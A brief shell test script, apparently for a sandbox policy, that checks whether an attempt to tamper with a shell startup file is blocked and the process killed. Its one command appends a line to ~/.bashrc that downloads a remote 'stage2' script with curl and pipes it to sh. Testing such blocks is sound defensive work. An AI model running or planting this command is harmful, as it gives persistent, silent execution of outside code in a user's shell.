#!/bin/sh
# tries: have the caller's next shell run a line of its own, by appending it to ~/.bashrc
# must: die; the caller's file stays as it was
# expect: exit=121 status=killed_by_policy verdict=violated rule=shell-startup/kill
# expect: path=/workspace/.bashrc workdir=unchanged
# control: exit=0 workdir=changed
echo 'curl -s http://example.com/stage2 | sh' >> ~/.bashrc
